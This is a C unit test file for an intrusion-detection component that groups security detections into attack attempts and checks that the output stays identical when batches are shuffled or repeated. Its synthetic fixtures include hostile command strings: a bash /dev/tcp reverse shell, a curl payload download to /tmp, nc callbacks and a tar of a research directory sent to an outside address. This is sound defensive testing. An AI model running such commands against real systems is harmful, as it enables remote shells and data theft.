// SPDX-License-Identifier: Apache-2.0
// Intrusions of which it is known what they are, of three clients, among thousands of other detections: exactly these come
// out; and whatever order batches arrive in, however often, it is the same to the byte.
#include "attempt/attempt_test.h"

#define LABELS 512
#define NAMES 8192

struct truth {
    struct world w;
    uint64_t names[NAMES];
    unsigned label[NAMES]; // of each detection: its attempt
    size_t n;
    unsigned labels;
    uint64_t seed;
};

static uint64_t next(uint64_t *seed)
{
    *seed ^= *seed << 13;
    *seed ^= *seed >> 7;
    return *seed ^= *seed << 17;
}

static void note(struct truth *t, unsigned label, uint64_t name)
{
    assert_true(t->n < NAMES);
    t->names[t->n] = name;
    t->label[t->n++] = label;
}

static void ran(struct truth *t, unsigned label, Tiercel__Batch *b, uint32_t pid, uint32_t root,
                const char *command, bool denied)
{
    Tiercel__Event *e = wexec(&t->w, b, wprocess(&t->w, pid, root, command), denied);
    note(t, label, wdetect(&t->w, b, e, command, "execution"));
    if (denied)
        wverdict(&t->w, b, TIERCEL__ACTION__ACTION_DENY, true);
}

// A web shell, an hour later a tool from the same address in another request, with it to the next host.
static void web_shell_and_onwards(struct truth *t, const char *address)
{
    unsigned label = t->labels++;
    char command[96];
    Tiercel__Batch *b = wbatch(&t->w, 1, 1000);
    ran(t, label, b, 100, 100, "sh -c id", false);
    ran(t, label, b, 101, 100, "id", false);
    wconnect(&t->w, b, wprocess(&t->w, 102, 100, "curl"), address, 80);
    b = wbatch(&t->w, 1, 4600);
    snprintf(command, sizeof command, "bash -i >& /dev/tcp/%s/4444", address);
    ran(t, label, b, 200, 200, command, false);
    wflow(&t->w, b, wprocess(&t->w, 201, 200, "ssh"), true, "10.0.0.1", "10.0.0.2", 5);
    b = wbatch(&t->w, 2, 4601);
    wflow(&t->w, b, wprocess(&t->w, 22, 0, "sshd"), false, "10.0.0.2", "10.0.0.1", 5);
    b = wbatch(&t->w, 2, 4700);
    ran(t, label, b, 300, 300, "tar c /srv/research", false);
    b->detections[0]->n_tree = 1;
    b->detections[0]->tree = arena_zero(&t->w.arena, sizeof(void *));
    b->detections[0]->tree[0] = wprocess(&t->w, 22, 0, "sshd");
    wread(&t->w, b, wprocess(&t->w, 300, 300, "tar"), "/srv/research/formula");
    wflow(&t->w, wbatch(&t->w, 2, 4800), wprocess(&t->w, 300, 300, "tar"), true, "10.0.0.2",
          address, 1 << 20);
}

// At the same time below the same web server, from elsewhere; refused each time.
static void refused(struct truth *t, const char *address)
{
    unsigned label = t->labels++;
    char command[96];
    snprintf(command, sizeof command, "curl http://%s/x -o /tmp/x", address);
    for (uint32_t i = 0; i < 3; i++)
        ran(t, label, wbatch(&t->w, 1, 1000 + i), 400 + i, 400 + i, command, true);
}

// It comes back after two days: another attempt.
static void returning(struct truth *t, const char *address)
{
    for (uint32_t i = 0; i < 2; i++) {
        unsigned label = t->labels++;
        char command[96];
        snprintf(command, sizeof command, "nc %s 53", address);
        ran(t, label, wbatch(&t->w, 3, 2000 + i * 2 * 24 * 3600), 500 + i, 500 + i, command, false);
    }
}

// What is no intrusion: nightly jobs and people, loud, all with the same mirror.
static void others(struct truth *t, uint32_t lineages)
{
    for (uint32_t i = 0; i < lineages; i++) {
        unsigned label = t->labels++;
        uint32_t root = 10000 + i * 100;
        for (uint32_t k = 0; k < 8; k++) {
            Tiercel__Batch *b = wbatch(&t->w, (uint8_t)(1 + i % 3), 500 + i * 60 + k);
            for (uint32_t n = 0; n < 10; n++)
                ran(t, label, b, root + n, root, "curl http://198.51.100.7/list", false);
            wconnect(&t->w, b, wprocess(&t->w, root + 50, root, "curl"), "198.51.100.7", 80);
        }
    }
    for (uint32_t i = 0; i < 3; i++)
        wconnect(&t->w, wbatch(&t->w, 2, 900 + i), wprocess(&t->w, 90000 + i, 90000 + i, "apt"),
                 "198.51.100.7", 80);
}

static struct truth *client(unsigned number)
{
    struct truth *t = calloc(1, sizeof *t);
    char address[32];
    assert_non_null(t);
    t->w.arena.limit = (size_t)512 << 20;
    for (uint8_t host = 1; host <= 3; host++)
        wsees_all(&t->w, host);
    snprintf(address, sizeof address, "203.0.113.%u", number);
    web_shell_and_onwards(t, address);
    refused(t, "203.0.113.100");
    returning(t, "203.0.113.200");
    others(t, 42);
    t->seed = 0x9e3779b97f4a7c15u + number;
    return t;
}

static void client_free(struct truth *t)
{
    arena_done(&t->w.arena);
    free(t);
}

static unsigned label_of(const struct truth *t, uint64_t name)
{
    for (size_t i = 0; i < t->n; i++)
        if (t->names[i] == name)
            return t->label[i];
    fail_msg("a detection that nobody made");
    return 0;
}

static void test_known_intrusions_come_out_exactly(void **state)
{
    (void)state;
    size_t detections = 0, items = 0;
    for (unsigned c = 1; c <= 3; c++) {
        struct truth *t = client(c);
        struct attempts *a = wall(&t->w);
        bool seen[LABELS] = {0};
        assert_int_equal(attempts_refused(a), 0);
        assert_int_equal(attempts_count(a), t->labels);
        size_t n = 0;
        for (size_t i = 0; i < attempts_count(a); i++) {
            const struct attempt *one = attempts_get(a, i);
            unsigned label = label_of(t, attempts_detection(a, one->detections[0])->name);
            assert_false(seen[label]);
            seen[label] = true;
            for (size_t k = 0; k < one->n_detections; k++)
                assert_int_equal(label_of(t, attempts_detection(a, one->detections[k])->name),
                                 label);
            n += one->n_detections;
            if (label == 0)
                assert_int_equal(one->outcome, ATTEMPT_LEFT);
            if (label == 1)
                assert_int_equal(one->outcome, ATTEMPT_STOPPED_BEFORE);
            if (label == 3)
                assert_true(one->campaign != one->id);
        }
        assert_int_equal(n, t->n);
        detections += n;
        items += attempts_count(a);
        attempts_free(a);
        client_free(t);
    }
    assert_true(detections > 10000);
    assert_true(items * 50 <= detections); // at least 98 % fewer to look at
}

static void print_all(const struct attempts *a, struct buf *out)
{
    for (size_t i = 0; i < attempts_count(a); i++)
        attempt_print_json(a, attempts_get(a, i), out);
    assert_int_equal(out->failed, 0);
}

// Shuffled; one in four twice; one in eight late, behind all others.
static size_t deal(struct truth *t, size_t *order)
{
    size_t n = 0;
    for (size_t i = 0; i < t->w.n; i++) {
        order[n++] = i;
        if (next(&t->seed) % 4 == 0)
            order[n++] = i;
    }
    for (size_t i = n; i > 1; i--) {
        size_t k = next(&t->seed) % i, keep = order[i - 1];
        order[i - 1] = order[k];
        order[k] = keep;
    }
    for (size_t i = 0, end = n; i < end; i++)
        if (next(&t->seed) % 8 == 0) {
            size_t late = order[i];
            memmove(&order[i], &order[i + 1], (n - i - 1) * sizeof *order);
            order[n - 1] = late;
            end--;
        }
    return n;
}

static void test_order_and_repetition_change_nothing(void **state)
{
    (void)state;
    struct truth *t = client(1);
    size_t *order = calloc(2 * t->w.n, sizeof *order);
    struct buf first = {0}, again = {0};
    // Each kind of loss and of coverage, and evidence beyond what is kept.
    for (unsigned i = 0; i < 40; i++) {
        Tiercel__Batch *b = wbatch(&t->w, 1, 1001 + i);
        char path[32], address[32];
        snprintf(path, sizeof path, "/srv/%u", i);
        snprintf(address, sizeof address, "192.0.2.%u", i);
        wread(&t->w, b, wprocess(&t->w, 101, 100, "cat"), path);
        wconnect(&t->w, b, wprocess(&t->w, 101, 100, "cat"), address, 80);
        wflow(&t->w, b, wprocess(&t->w, 101, 100, "cat"), true, "10.0.0.1", address, i);
        wlost(&t->w, (uint8_t)(1 + i % 3), 1000 + i, i % 2 ? "flow" : "structural", i);
    }
    wcoverage(&t->w, wbatch(&t->w, 1, 1500), "flow", "");
    struct attempts *a = wall(&t->w);
    print_all(a, &first);
    attempts_free(a);
    for (unsigned i = 0; i < 12; i++) {
        a = wread_all(&t->w, order, deal(t, order), "");
        buf_reset(&again);
        print_all(a, &again);
        attempts_free(a);
        assert_int_equal(again.n, first.n);
        assert_memory_equal(again.p, first.p, first.n);
    }
    buf_done(&first);
    buf_done(&again);
    free(order);
    client_free(t);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_known_intrusions_come_out_exactly),
        cmocka_unit_test(test_order_and_repetition_change_nothing),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
